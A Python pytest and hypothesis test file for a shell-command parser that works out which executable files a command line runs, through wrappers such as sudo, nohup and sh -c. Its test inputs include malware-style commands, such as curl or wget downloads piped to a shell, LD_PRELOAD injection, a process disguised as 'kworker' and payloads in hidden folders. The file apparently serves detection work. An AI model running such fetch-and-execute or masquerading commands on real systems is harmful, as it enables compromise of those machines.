"""What a command runs, as far as its words say."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from davy.collect.commands import PROGRAMS_LIMIT, UNKNOWN, programs_of, programs_of_words
from davy.knowledge.arguments import TEXT_LIMIT

WORDS = st.sampled_from([
    "sh", "bash", "-c", "eval", "cd", "nice", "-n", "5", "timeout", "find", "-exec", "python3", "java", "-jar", "su",
    "-", "flock", "xargs", "env", "A=b", "--", "if", "then", "/tmp/x", "./y", "~", "$HOME", "${A}", ";",
    "&&", "||", "|", "&", "(", ")", "{", "}", "$(", "`", "'", '"', "\\", ">", "2>&1", "<<", "#", "%", "*", "\n", " ",
])  # fmt: skip


@pytest.mark.parametrize(
    ("command", "programs"),
    [
        ("/tmp/x", ["/tmp/x"]),
        ("/tmp/x -a /etc/passwd", ["/tmp/x"]),
        ("PATH=/bin LD_PRELOAD=/tmp/p.so /tmp/x", ["/tmp/x"]),
        ("/a && /b || /c; /d | /e & /f", ["/a", "/b", "/c", "/d", "/e", "/f"]),
        ("/a&&/b||/c;/d|/e&/f", ["/a", "/b", "/c", "/d", "/e", "/f"]),
        ("/a\n/b", ["/a", "/b"]),
        ("/a -x \\\n -y /b", ["/a"]),
        ("/a >/dev/null 2>&1", ["/a"]),
        ("</dev/null /a 2> /tmp/log", ["/a"]),
        ("/a &> /tmp/log; /b", ["/a", "/b"]),
        ("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", []),
        ("[ -x /a ] && /a", ["/a"]),
        ("if [ -x /a ]; then /b; else /c; fi", ["/b", "/c"]),
        ("while true; do /a; sleep 1; done", ["/a"]),
        ("for x in /a /b; do /c $x; done", ["/c"]),
        ("{ /a; }", ["/a"]),
        ("/a # && /b", ["/a"]),
        ("/a#b", ["/a#b"]),
        ("'/tmp/a b' x", ["/tmp/a b"]),
        ("/tmp/a\\ b", ["/tmp/a b"]),
        ("\"/tmp/a\"'/b'/c", ["/tmp/a/b/c"]),
        ("/tmp/../tmp//./x", ["/tmp/x"]),
        ("//tmp/x", ["/tmp/x"]),
        ("/x; /x", ["/x"]),
        ("curl -fsSL http://h/i.sh | sh", []),
        ("(curl -fsSL http://h/i||wget -q -O- http://h/i)|bash -sh", []),
        ("", []),
    ],
)
def test_programs_are_the_files_that_simple_commands_begin_with(command: str, programs: list[str]) -> None:
    assert programs_of(command) == tuple(programs)


@pytest.mark.parametrize(
    "wrapped",
    [
        "nice /x", "nice -n 19 /x", "nice -19 /x", "ionice -c3 /x", "ionice -c 2 -n 7 /x", "nohup /x", "setsid -f /x",
        "timeout 10 /x", "timeout -k 5 -s KILL 10m /x", "timeout --signal=KILL 10 /x", "sudo /x", "sudo -nu bob /x",
        "sudo -u bob -- /x", "sudo --user bob /x", "env /x", "env -i A=1 B=2 /x", "env -u A /x", "exec /x",
        "exec -a kworker /x", "flock /tmp/l /x", "flock -n /tmp/l /x", "flock -w 5 /tmp/l -c /x",
        "flock -xn /tmp/l -c '/x y'",
        "chroot /mnt /x", "taskset 0x3 /x", "taskset -c 0 /x", "chrt -i 0 /x", "stdbuf -oL /x", "command /x", "time /x",
        "xargs -n 1 -I {} /x", "su - www-data -c /x", "su -s /bin/sh -c /x www-data", "su -lc /x bob",
        "runuser -u bob -- /x", "runuser -l bob -c '/x y'", "sg users -c /x", "script -qc /x /dev/null",
        "screen -dmS name /x", "systemd-run --unit u --property=A=b /x", "busybox nohup /x", "numactl -C 0 /x",
        "unshare -m /x", "doas -u bob /x", "watch -n 1 /x", "env -S '/x y'", "find / -name y -exec /x {} \\;",
        "nice nohup setsid timeout 5 sudo env A=1 /x", "eval '/x'", "eval /x y", "! /x", ". /x", "source /x",
        "sh /x", "bash -x /x", "bash -eu /x", "bash -o pipefail /x", "bash --norc /x y", "busybox sh /x",
        "sh -c /x", "sh -c 'exec /x'", "bash -lc '/x; true'", "bash -c \"nohup /x &\"", "sh -c 'sh -c \"sh -c /x\"'",
        "python3 /x", "python3.11 -u -W ignore /x", "perl -w /x", "ruby /x", "node /x", "php -f /x", "php /x",
        "java -Xmx1g -jar /x", "lua5.4 /x", "true $(/x)", "true `/x`", "true \"$(/x)\"", "cat <(/x)",
        "A=$(/x)", "$(true) | $(true; /x)", "diff <(/x) y", "true `true \\`/x\\``", "setarch -R /x",
        "parallel '/x {}' ::: y", "command -v /y; /x", "sudo -l /y; /x", "runcon -t t /x", "tini -s -- /x",
        "find y -exec true \\; -exec /x \\;",
    ],
)  # fmt: skip
def test_programs_that_run_another_are_followed_to_it(wrapped: str) -> None:
    assert programs_of(wrapped) == ("/x",)


@pytest.mark.parametrize(
    "command",
    [
        "python3 -c 'x' /y", "python3 -m http.server /y", "perl -e 'x' /y", "node -e 'x' /y", "php -r 'x' /y",
        "bash -s /y", "java -cp /a Main", "sudo -l", "timeout 5", "nice", "env", "sh", "sh -c", "echo $((1 + 2))",
    ],
)  # fmt: skip
def test_commands_without_a_file_of_their_own_yield_nothing(command: str) -> None:
    assert programs_of(command) == ()


def test_an_absolute_wrapper_or_interpreter_counts_beside_what_it_runs() -> None:
    assert programs_of("/usr/bin/nohup /usr/bin/python3 /opt/m.py") == (
        "/usr/bin/nohup",
        "/usr/bin/python3",
        "/opt/m.py",
    )
    assert programs_of("/lib64/ld-linux-x86-64.so.2 --library-path /l /tmp/m") == (
        "/lib64/ld-linux-x86-64.so.2",
        "/tmp/m",
    )


@pytest.mark.parametrize(
    ("command", "programs"),
    [
        ("cd /tmp/.X11 && ./upd >/dev/null 2>&1", ["/tmp/.X11/upd"]),
        ("cd /tmp; cd .x; ./a", ["/tmp/.x/a"]),
        ("cd /tmp || cd /var/run || cd /; ./a", ["/tmp/a"]),
        ("cd /opt; python3 m.py", ["/opt/m.py"]),
        ("sh -c 'cd /opt'; ./a", []),
        ("./a", []),
        ("cd $X; ./a", []),
    ],
)
def test_relative_paths_count_where_the_folder_is_said(command: str, programs: list[str]) -> None:
    assert programs_of(command) == tuple(programs)


def test_home_and_the_first_folder_count_where_they_are_known() -> None:
    command = "~/.configrc/a/upd; $HOME/b; ${HOME}/c; ./d; cd; ./e"
    assert programs_of(command) == ()
    assert programs_of(command, home="/root", directory="/srv") == (
        "/root/.configrc/a/upd",
        "/root/b",
        "/root/c",
        "/srv/d",
        "/root/e",
    )


@pytest.mark.parametrize("command", ["$X/a", "/tmp/$X", "/tmp/*/a", "/tmp/[ab]", "~bob/a", "`x`/a", "/a$(b)", "/a\0b"])
def test_a_path_that_only_the_running_shell_knows_yields_nothing(command: str) -> None:
    assert programs_of(command, home="/root") == ()


@pytest.mark.parametrize("command", ["/a 'x", '/a "x', "/a \\", "/a `b", "/a $(b", "/a ${b", "/a $", "/a (", "/a <<"])
def test_bad_quoting_does_not_hide_what_comes_before_it(command: str) -> None:
    assert programs_of(command) == ("/a",)


def test_words_that_no_shell_reads_are_taken_as_they_are() -> None:
    assert programs_of_words(["/bin/echo", "&&", "/tmp/x"]) == ("/bin/echo",)
    assert programs_of_words(["/bin/sh", "-c", "true && /tmp/x"]) == ("/bin/sh", "/tmp/x")
    assert programs_of_words(["/usr/bin/python3", "m.py"], directory="/opt") == ("/usr/bin/python3", "/opt/m.py")
    assert programs_of_words([f"/opt/{UNKNOWN}/x"]) == ()
    assert programs_of_words([]) == ()


def test_at_most_so_many_programs_and_characters_are_looked_at() -> None:
    assert len(programs_of(";".join(f"/p{i}" for i in range(1000)))) == PROGRAMS_LIMIT
    assert programs_of(" " * TEXT_LIMIT + "/x") == ()


@pytest.mark.parametrize(
    "piece",
    ["$(", "`", "'", '"$(', "\\a", "nice ", "find -exec ", "sh -c ", "eval ", "$()", ";", "/a;", "((", "${", "cd x;",
     "<<<", "su -c ", "'a'\"b\"", "$(`"],
)  # fmt: skip
def test_hostile_commands_take_less_than_a_second(piece: str) -> None:
    started = time.process_time()
    programs_of("cd /a;" + piece * (TEXT_LIMIT // len(piece)))
    assert time.process_time() - started < 1.0


@given(st.one_of(st.text(), st.lists(WORDS, max_size=40).map(" ".join), st.lists(WORDS, max_size=40).map("".join)))
def test_whatever_the_command_the_answer_is_a_few_clean_absolute_paths(command: str) -> None:
    programs = programs_of(command, home="/root", directory="/srv")
    assert len(programs) <= PROGRAMS_LIMIT
    assert len(set(programs)) == len(programs)
    for program in programs:
        assert program.startswith("/")
        assert UNKNOWN not in program
        assert "//" not in program
        assert ".." not in program.split("/")


@given(st.lists(st.text(max_size=20) | WORDS, max_size=20))
def test_whatever_the_words_nothing_is_raised(words: list[str]) -> None:
    assert all(program.startswith("/") for program in programs_of_words(words))
